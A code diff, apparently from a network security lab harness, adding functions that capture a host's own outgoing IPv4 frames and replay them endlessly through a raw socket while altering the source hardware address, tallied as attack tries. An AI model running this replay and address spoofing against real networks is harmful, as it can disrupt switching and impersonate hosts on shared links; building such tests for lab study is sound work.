@@ -4,6 +4,7 @@
 #include <cstring>
 #include <functional>
 #include <optional>
+#include <thread>
 
 #include <arpa/inet.h>
 #include <linux/if_packet.h>
@@ -274,6 +275,52 @@ std::string captureHeartbeat(const std::string& interface, const std::string& fr
 		        return payload.starts_with("/process/");
 	        });
 	return payload.starts_with("/process/") ? payload : std::string();
+}
+
+std::vector<std::string> recordFrames(const std::string& interface, Millis span)
+{
+	std::string own(6, '\0');
+	const Descriptor socket(::socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0));
+	ifreq asked{};
+	std::strncpy(asked.ifr_name, interface.c_str(), IFNAMSIZ - 1);
+	::ioctl(socket.get(), SIOCGIFHWADDR, &asked);
+	std::memcpy(own.data(), asked.ifr_hwaddr.sa_data, own.size());
+	std::vector<std::string> frames;
+	capture(interface, span,
+	        [&](const std::string& frame)
+	        {
+		        if (frame.starts_with(own) && frame.substr(12, 2) == std::string("\x08\x00", 2))
+		        {
+			        frames.push_back(frame);
+		        }
+		        return false;
+	        });
+	return frames;
+}
+
+void replayFrames(const std::string& interface, const std::vector<std::string>& frames, const std::atomic<bool>& stop,
+                  AttackTally& tally)
+{
+	const Descriptor socket(::socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, 0));
+	sockaddr_ll place{};
+	place.sll_family = AF_PACKET;
+	place.sll_ifindex = static_cast<int>(::if_nametoindex(interface.c_str()));
+	if (!socket || frames.empty())
+	{
+		throw LabError("there is nothing to replay on " + interface);
+	}
+	while (!stop)
+	{
+		for (std::string frame : frames)
+		{
+			// The sender's hardware address is another one: the bridge goes on knowing where it is.
+			frame[11] = static_cast<char>(frame[11] + 64);
+			::sendto(socket.get(), frame.data(), frame.size(), 0, reinterpret_cast<const sockaddr*>(&place),
+			         sizeof place);
+			++tally.tries;
+		}
+		std::this_thread::sleep_for(Millis(50));
+	}
 }
 
 std::optional<std::uint16_t> capturePing(const std::string& interface, const std::string& from, Millis limit)
